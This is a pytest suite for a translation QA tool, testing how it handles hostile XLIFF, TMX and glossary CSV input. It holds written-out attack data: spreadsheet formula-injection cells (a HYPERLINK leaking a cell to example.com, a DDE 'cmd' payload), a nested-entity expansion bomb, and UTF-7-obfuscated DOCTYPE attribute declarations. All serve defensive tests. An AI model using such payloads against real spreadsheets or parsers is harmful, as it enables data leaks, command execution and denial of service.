"""Bilingual files and glossaries written to break mtqa, and what a user gets instead: XML over the parser's size
limits refused in words a user can act on; Trados segment marks that do not pair read without losing or doubling
text; every target language of a translation memory checked; glossary CSV that a spreadsheet cannot run as
formulas, read back exactly; article term dictionaries held to the glossary's limits."""

from __future__ import annotations

import csv
import json
from dataclasses import replace

import pytest
from click.testing import CliRunner

import mtqa
from conftest import assert_one_error_line
from conftest import check_command as check
from mtqa.cli import cli
from mtqa.errors import InputError
from mtqa.glossary.csv_format import read_csv
from mtqa.glossary.load import read_glossary_files
from mtqa.io.jsonl import article_terms
from mtqa.io.tmx import tmx_documents
from mtqa.io.xliff import xliff_documents

XLIFF_12 = ('<?xml version="1.0"?>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">\n'
            '<file original="a" source-language="zh-CN" target-language="en" datatype="plaintext"><body>\n'
            '{units}\n</body></file></xliff>\n')


def _texts(document):
    return [(s.id, document.source[s.source.start:s.source.end], document.target[s.target.start:s.target.end])
            for s in document.segments]


# XML over the parser's limits --------------------------------------------------------------------------------

@pytest.mark.parametrize(("units", "reason"), [
    ('<trans-unit id="1"><source>a</source><target>' + "word " * 2_100_000 + "</target></trans-unit>",
     "Text node too long"),
    ("<group>" * 300 + '<trans-unit id="1"><source>a</source><target>b</target></trans-unit>' + "</group>" * 300,
     "Excessive depth"),
    ('<trans-unit id="1"><source>a</source><target><![CDATA[' + "w" * 10_100_000 + "]]></target></trans-unit>",
     "CData section too big"),
], ids=["text-node", "nesting", "cdata"])
def test_xml_over_a_size_limit_is_too_large_not_malformed_and_names_no_parser_option(tmp_path, monkeypatch, units,
                                                                                     reason):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "big.xlf").write_text(XLIFF_12.format(units=units), encoding="utf-8")
    error = assert_one_error_line(check("big.xlf"), "big.xlf:4: too large to read: ", reason, "256 levels")
    assert "XML_PARSE_HUGE" not in error and "malformed" not in error


def test_malformed_xml_is_still_called_malformed(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "bad.xlf").write_text(XLIFF_12.format(units="<trans-unit>"), encoding="utf-8")
    assert_one_error_line(check("bad.xlf"), "bad.xlf:5: malformed XML: ")


# Trados segment marks ------------------------------------------------------------------------------------------

def _sdl_unit(source_marks: str, target_marks: str) -> str:
    return (f'<trans-unit id="u"><source>S</source><seg-source>{source_marks}</seg-source>'
            f"<target>{target_marks}</target></trans-unit>")


def _mark(mid: str | None, text: str) -> str:
    return f'<mrk mtype="seg"{f" mid={chr(34)}{mid}{chr(34)}" if mid is not None else ""}>{text}</mrk>'


@pytest.mark.parametrize(("source_marks", "target_marks"), [
    # a target mid the source lacks: its text was dropped
    (_mark("1", "甲。") + _mark("2", "乙。"), _mark("1", "One.") + " " + _mark("9", "Two.")),
    # a mid given twice: the last target mark was read for both
    (_mark("1", "甲。") + _mark("1", "乙。"), _mark("1", "One.") + " " + _mark("1", "Two.")),
    # no mids: both targets were lost
    (_mark(None, "甲。") + _mark(None, "乙。"), _mark(None, "One.") + " " + _mark(None, "Two.")),
    # a segment inside another: its text was read twice
    (_mark("1", "甲。" + _mark("2", "乙。")), _mark("1", "One. " + _mark("2", "Two."))),
    # target text after the marks, or between them, left unsegmented by a tool: it was never read
    (_mark("1", "甲。"), _mark("1", "One.") + " Two."),
    (_mark("1", "甲。") + _mark("2", "乙。"), _mark("1", "One.") + " Two." + _mark("2", "")),
])
def test_segment_marks_that_do_not_pair_leave_the_unit_one_segment_with_all_its_text_once(tmp_path, source_marks,
                                                                                         target_marks):
    path = tmp_path / "t.sdlxliff"
    path.write_text(XLIFF_12.format(units=_sdl_unit(source_marks, target_marks)), encoding="utf-8")
    [document] = xliff_documents(str(path))
    assert _texts(document) == [("u", "S", "One. Two.")]


def test_segment_marks_that_pair_stay_segments_and_an_untranslated_one_is_empty(tmp_path):
    path = tmp_path / "t.sdlxliff"
    units = _sdl_unit(_mark("1", "甲。") + _mark("2", "乙。") + _mark("3", "丙。"),
                      _mark("2", "Two.") + _mark("1", "One."))
    path.write_text(XLIFF_12.format(units=units), encoding="utf-8")
    [document] = xliff_documents(str(path))
    assert _texts(document) == [("u:1", "甲。", "One."), ("u:2", "乙。", "Two."), ("u:3", "丙。", "")]


# Translation memories --------------------------------------------------------------------------------------------

def _tmx(units: str, header: str = 'srclang="zh-CN"') -> str:
    return (f'<?xml version="1.0"?>\n<tmx version="1.4"><header {header} creationtool="x"/>\n<body>\n{units}\n'
            "</body></tmx>\n")


def _tu(*variants: tuple[str, str]) -> str:
    return "<tu>" + "".join(f'<tuv xml:lang="{lang}"><seg>{text}</seg></tuv>' for lang, text in variants) + "</tu>"


MULTILINGUAL = "\n".join([
    _tu(("zh-CN", "甲"), ("de", "A (de)"), ("en", "A")),
    _tu(("zh-CN", "乙"), ("en", "B")),
    _tu(("zh-CN", "丙"), ("fr", "C (fr)"), ("en", "C")),
    _tu(("zh-CN", "丁")),
])


def test_every_target_language_of_a_memory_is_checked(tmp_path):
    path = tmp_path / "tm.tmx"
    path.write_text(_tmx(MULTILINGUAL), encoding="utf-8")
    documents = tmx_documents(str(path))
    # The language most units are translated into is the memory's article, every unit in it (丁 is missing its
    # translation); each other language is an article of the units translated into it.
    assert [(d.id[len(str(path)):], d.target_lang, _texts(d)) for d in documents] == [
        ("", "en", [("1", "甲", "A"), ("2", "乙", "B"), ("3", "丙", "C"), ("4", "丁", "")]),
        ("#de", "de", [("1", "甲", "A (de)")]),
        ("#fr", "fr", [("3", "丙", "C (fr)")]),
    ]


@pytest.mark.parametrize("header", ['srclang="*all*"', ""])
def test_a_memory_without_a_source_language_is_read_in_the_direction_of_its_first_unit(tmp_path, header):
    path = tmp_path / "tm.tmx"
    path.write_text(_tmx("\n".join([_tu(("zh", "甲"), ("en", "A")), _tu(("en", "B"), ("zh", "乙"))]), header),
                    encoding="utf-8")
    [document] = tmx_documents(str(path))
    assert (document.source_lang, document.target_lang) == ("zh", "en")
    assert _texts(document) == [("1", "甲", "A"), ("2", "乙", "B")]


@pytest.mark.parametrize("header", ['srclang="*all*"', ""])
def test_a_memory_without_a_source_language_that_lists_english_first_is_read_into_english(tmp_path, monkeypatch,
                                                                                          header):
    """A unit's variants are in no order: a memory listing English first had its Chinese checked as the
    translation, and passed."""
    monkeypatch.chdir(tmp_path)
    units = [_tu(("en", "They used job labor."), ("zh-Hans", "他们使用了强迫劳动。")),
             _tu(("EN", "B"), ("zh-Hans", "乙"))]
    (tmp_path / "tm.tmx").write_text(_tmx("\n".join(units), header), encoding="utf-8")
    [document] = tmx_documents("tm.tmx")
    assert (document.source_lang, document.target_lang) == ("zh-Hans", "en")
    assert _texts(document) == [("1", "他们使用了强迫劳动。", "They used job labor."), ("2", "乙", "B")]
    # The languages given on the command line say which way a memory goes: here German into English.
    units = [_tu(("en", "A"), ("de", "Ein"), ("zh-Hans", "甲"))]
    (tmp_path / "tm.tmx").write_text(_tmx("\n".join(units), header), encoding="utf-8")
    assert tmx_documents("tm.tmx", source_lang="de")[0].source_lang == "de"
    assert tmx_documents("tm.tmx", target_lang="zh-Hans")[0].source_lang == "en"
    assert [d.source_lang for d in mtqa.load_documents("tm.tmx", source_lang="de")] == ["de", "de"]


def test_a_decoy_unit_in_a_third_language_does_not_turn_a_memory_round(tmp_path):
    """A first unit of French and Chinese made French the source, and every later unit was read from its first
    variant, the English: no article checked English as a translation."""
    units = [_tu(("fr", "Bonjour."), ("zh", "你好。")),
             _tu(("en", "They used job labor."), ("zh", "他们使用了强迫劳动。")),
             _tu(("en", "Yun Xiyue met them."), ("zh", "尹锡悦会见了他们。"))]
    (tmp_path / "tm.tmx").write_text(_tmx("\n".join(units), 'srclang="*all*"'), encoding="utf-8")
    documents = tmx_documents(str(tmp_path / "tm.tmx"))
    english = next(document for document in documents if document.target_lang == "en")
    assert english.source_lang == "zh"
    assert _texts(english)[1:] == [("2", "他们使用了强迫劳动。", "They used job labor."),
                                   ("3", "尹锡悦会见了他们。", "Yun Xiyue met them.")]


@pytest.mark.parametrize(("unit", "line", "message"), [
    ('<tu><tuv xml:lang="zh-CN"><seg>甲</seg></tuv>\n<tuv><seg>A</seg></tuv></tu>', 5, "a <tuv> without xml:lang"),
    ('<tu><tuv xml:lang="zh-CN"><seg>甲</seg></tuv><tuv xml:lang="en"><seg>A</seg></tuv>\n'
     '<tuv xml:lang="EN"><seg>A2</seg></tuv></tu>', 5, "two <tuv> in the language 'EN' in one translation unit"),
])
def test_a_unit_whose_translation_cannot_be_told_is_refused_at_its_line(tmp_path, monkeypatch, unit, line, message):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "tm.tmx").write_text(_tmx(unit), encoding="utf-8")
    assert_one_error_line(check("tm.tmx"), f"tm.tmx:{line}: ", message)


# Glossary CSV and spreadsheets ---------------------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://example.com/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTabbed", "'=already marked", "''+twice", "'s-Hertogenbosch"]


def _formula_glossary(tmp_path):
    path = tmp_path / "in.yaml"
    entries = [{"id": f"e{number}", "type": "term", "canonical": text, "sources": {"zh-Hans": [f"词{number}"]},
                "note": text} for number, text in enumerate(FORMULAS)]
    entries.append({"id": "=id", "type": "+person", "canonical": "Name", "sources": {"zh-Hans": ["名"]}})
    path.write_text(json.dumps({"name": "=HYPERLINK(\"http://example.com/\",\"desk\")", "description": "-1+2",
                                "entries": entries}, ensure_ascii=False), encoding="utf-8")
    return path


def test_exported_csv_holds_no_cell_a_spreadsheet_runs_and_reads_back_exactly(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    glossary = _formula_glossary(tmp_path)
    assert CliRunner().invoke(cli, ["glossary", "export", str(glossary), "-o", "out.csv"]).exit_code == 0
    with open("out.csv", encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {"'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")", "'-2+3", "''=already marked",
            "'''+twice", "'s-Hertogenbosch", "'=id", "'+person", "'-1+2",
            "'=HYPERLINK(\"http://example.com/\",\"desk\")"} <= set(cells)
    [original], [read_back] = read_glossary_files([str(glossary)], "en"), read_glossary_files(["out.csv"], "en")
    assert (read_back.name, read_back.description) == (original.name, original.description)
    assert [replace(entry, origin=None) for entry in read_back.entries] == \
        [replace(entry, origin=None) for entry in original.entries]


def test_a_spreadsheet_marked_formula_like_cell_reads_as_its_text(tmp_path):
    path = tmp_path / "sheet.csv"
    path.write_text("id,en,zh-Hans,note\n'=x,'=Equals,等于,'@note\napostrophe,'s-Hertogenbosch,斯海尔托亨博斃,\n",
                    encoding="utf-8")
    first, second = read_csv(str(path), "en").entries
    assert (first.id, first.canonical, first.note) == ("=x", "=Equals", "@note")
    assert second.canonical == "'s-Hertogenbosch"


# Term dictionaries of JSONL articles -------------------------------------------------------------------------------

@pytest.mark.parametrize(("terms", "message"), [
    ({"习近平": ["X" * 1_001]}, "is 1,001 characters long; forms are at most 1,000 characters"),
    ({"习" * 200_000: ["Xi"]}, "is 200,000 characters long"),
    ({"习近平": ["Xi Jinping"], " 习近平 ": ["Xi"]}, "term '习近平' given twice in field 'terms'"),
    ({" ": ["Xi"]}, "field 'terms' has a term whose source form is empty"),
])
def test_article_terms_over_the_glossary_limits_or_given_twice_are_refused_at_the_line(tmp_path, monkeypatch,
                                                                                      terms, message):
    monkeypatch.chdir(tmp_path)
    record = {"id": "a", "source": "习近平讲话。", "target": "Xi spoke.", "terms": terms}
    (tmp_path / "b.jsonl").write_text("{\"id\": \"ok\", \"target\": \"x\"}\n" + json.dumps(record) + "\n",
                                      encoding="utf-8")
    error = assert_one_error_line(check("b.jsonl"), "b.jsonl:2: ", message)
    assert len(error) < 400  # a long form is not repeated in the message


def test_article_terms_of_one_character_or_regex_syntax_are_plain_text():
    terms = article_terms({"说": "said", "(甲)": ["(a)"], ".*": [".*"], "\\": ["\\"]}, "b.jsonl", 1)
    assert terms == {"说": ("said",), "(甲)": ("(a)",), ".*": (".*",), "\\": ("\\",)}


def test_a_bad_term_key_is_shown_escaped():
    with pytest.raises(InputError) as raised:
        article_terms({"a\n::error::x": []}, "b.jsonl", 3)
    assert "a\\n::error::x" in str(raised.value) and "\n" not in str(raised.value)


def test_files_of_one_original_get_ids_unlike_any_other_original(tmp_path):
    files = "".join(f'<file original="{original}" source-language="zh" target-language="en" datatype="plaintext">'
                    '<body><trans-unit id="1"><source>甲</source><target>A</target></trans-unit></body></file>\n'
                    for original in ("a#3", "a", "a", "a#3.2"))
    path = tmp_path / "t.xlf"
    path.write_text('<?xml version="1.0"?>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">\n'
                    + files + "</xliff>\n", encoding="utf-8")
    ids = [document.id[len(str(path)):] for document in xliff_documents(str(path))]
    assert ids == ["#a#3", "#a", "#a#3.2", "#a#3.2#4"]


def test_a_csv_cell_of_a_million_characters_is_refused_at_its_row_in_words(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "g.csv").write_text("id,en,zh-Hans\nok,Fine,好\nbig," + "X" * 1_000_000 + ",甲\n", encoding="utf-8")
    (tmp_path / "a.txt").write_text("Fine.", encoding="utf-8")
    assert_one_error_line(check("a.txt", "--glossary", "g.csv"), "g.csv:3: a cell of more than 131,072 characters")


@pytest.mark.parametrize("encoding", ["UTF-16", "UTF-32"])
def test_entity_declarations_in_a_wide_encoding_are_refused_as_such_at_their_line(tmp_path, monkeypatch, encoding):
    monkeypatch.chdir(tmp_path)
    levels = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10)]
    document = (f'<?xml version="1.0" encoding="{encoding}"?>\n<!DOCTYPE xliff [{"".join(levels)}]>\n'
                + XLIFF_12.split("\n", 1)[1].format(units='<trans-unit id="1"><source>a</source>'
                                                          "<target>&l9;</target></trans-unit>"))
    (tmp_path / "laughs.xlf").write_bytes(document.encode(encoding.lower()))
    assert_one_error_line(check("laughs.xlf"), "laughs.xlf:2: refused: the DOCTYPE declares entities")


@pytest.mark.parametrize(("declaration", "encoding"), [
    ('<!ATTLIST trans-unit translate CDATA "no">', "utf-8"),
    ('<!ELEMENT trans-unit ANY><!ATTLIST trans-unit translate (yes|no) "no">', "utf-8"),
    ('<!ATTLIST trans-unit translate CDATA #FIXED "no">', "utf-16"),
    ('<!ATTLIST trans-unit translate CDATA "no">', "utf-7"),  # whose bytes spell no "<!ATTLIST"
    ('<!ATTLIST trans-unit translate CDATA "no">', "utf-16-be"),  # no byte-order mark: read big-endian, as libxml2 does
])
def test_attribute_declarations_are_refused_at_their_line(tmp_path, monkeypatch, declaration, encoding):
    """libxml2 applies an internal subset's attribute defaults whatever the parser's options: one declaration made
    every unit translate="no", the units were skipped and a failing file passed."""
    monkeypatch.chdir(tmp_path)
    units = '<trans-unit id="1"><source>强制劳动</source><target>They used job labor.</target></trans-unit>'
    declared = "UTF-16" if encoding == "utf-16-be" else encoding
    document = XLIFF_12.format(units=units).replace('<?xml version="1.0"?>\n',
                                                    f'<?xml version="1.0" encoding="{declared}"?>\n'
                                                    f"<!DOCTYPE xliff [ {declaration} ]>\n")
    # UTF-7 may write "<!" as "+ADwAIQ-", as an attacker would: the bytes then spell no "<!ATTLIST".
    (tmp_path / "hidden.xlf").write_bytes(document.encode(encoding).replace(b"<!ATTLIST", b"+ADwAIQ-ATTLIST")
                                          if encoding == "utf-7" else document.encode(encoding))
    assert_one_error_line(check("hidden.xlf"), "hidden.xlf:2: refused: the DOCTYPE declares attributes")


@pytest.mark.parametrize(("document", "line", "message"), [
    (XLIFF_12.format(units='<foo>\n<trans-unit id="1"><source>甲</source><target>They used job labor.</target>'
                           "</trans-unit></foo>"), 5, "a <trans-unit> inside <foo>, where XLIFF puts none"),
    (XLIFF_12.format(units='<trans-unit id="1" xmlns="urn:oasis:names:tc:xliff:document:1.1">\n<source>甲</source>'
                           "<target>They used job labor.</target></trans-unit>"), 4,
     "a <trans-unit> of another namespace"),
    (XLIFF_12.format(units='<trans-unit id="1"><source>甲</source><target>Fine.</target>\n'
                           "<target>They used job labor.</target></trans-unit>"), 5, "two <target> in one trans-unit"),
    (XLIFF_12.replace("</body></file>", '</body></file><trans-unit id="9">\n<source>甲</source>'
                                        "<target>job labor</target></trans-unit>").format(units=""), 5,
     "a <trans-unit> inside <xliff>"),
    ('<?xml version="1.0"?>\n<xliff version="2.0" xmlns="urn:oasis:names:tc:xliff:document:2.0" srcLang="zh" '
     'trgLang="en"><file id="f"><unit id="1"><segment><source>甲</source><target>Fine.</target>\n'
     "<target>They used job labor.</target></segment></unit></file></xliff>", 3, "two <target> in one segment"),
])
def test_a_unit_the_reader_would_skip_or_read_half_of_is_refused_at_its_line(tmp_path, monkeypatch, document, line,
                                                                             message):
    """Units inside an element XLIFF puts none in, or of another namespace, were skipped without a word, and a
    second target was never read: the translation went unchecked and the file passed."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "t.xlf").write_text(document, encoding="utf-8")
    assert_one_error_line(check("t.xlf"), f"t.xlf:{line}: ", message)


def test_a_bin_units_own_trans_units_are_read(tmp_path):
    units = ('<trans-unit id="1"><source>甲</source><target>A.</target></trans-unit>'
             '<bin-unit id="img" mime-type="image/png"><bin-source><external-file href="a.png"/></bin-source>'
             '<trans-unit id="alt"><source>标志</source><target>They used job labor.</target></trans-unit></bin-unit>')
    (tmp_path / "t.xlf").write_text(XLIFF_12.format(units=units), encoding="utf-8")
    assert [_texts(d) for d in xliff_documents(str(tmp_path / "t.xlf"))] == [
        [("1", "甲", "A."), ("alt", "标志", "They used job labor.")]]


def test_an_xliff_2_ignorable_with_text_is_read_and_a_segment_out_of_place_refused(tmp_path, monkeypatch):
    """Text in an ignorable goes into the translated document; it went unchecked."""
    monkeypatch.chdir(tmp_path)
    head = ('<?xml version="1.0"?>\n<xliff version="2.0" xmlns="urn:oasis:names:tc:xliff:document:2.0" srcLang="zh" '
            'trgLang="en"><file id="f"><unit id="u">')
    (tmp_path / "i.xlf").write_text(head + '<segment id="s"><source>甲</source><target>A.</target></segment>'
                                    "<ignorable><source> </source><target> </target></ignorable><ignorable>"
                                    "<source>乙</source><target>Please read on...</target></ignorable>"
                                    "</unit></file></xliff>", encoding="utf-8")
    [document] = xliff_documents("i.xlf")
    assert _texts(document) == [("u:s", "甲", "A."), ("u:2", "乙", "Please read on...")]
    (tmp_path / "w.xlf").write_text(head + '<x:wrap xmlns:x="urn:example">\n<segment id="s"><source>甲</source>'
                                    "<target>job labor</target></segment></x:wrap></unit></file></xliff>",
                                    encoding="utf-8")
    assert_one_error_line(check("w.xlf"), "w.xlf:3: ", "a <segment> inside <wrap>, where XLIFF puts none")


def test_metadata_beside_the_units_is_still_read_past(tmp_path):
    units = ('<trans-unit id="1"><source>甲</source><target>A.</target><note>check</note>'
             '<alt-trans><target>B.</target></alt-trans></trans-unit>')
    document = XLIFF_12.format(units=units).replace("<body>", "<header><note>n</note></header><body>")
    (tmp_path / "t.xlf").write_text(document, encoding="utf-8")
    assert [_texts(d) for d in xliff_documents(str(tmp_path / "t.xlf"))] == [[("1", "甲", "A.")]]
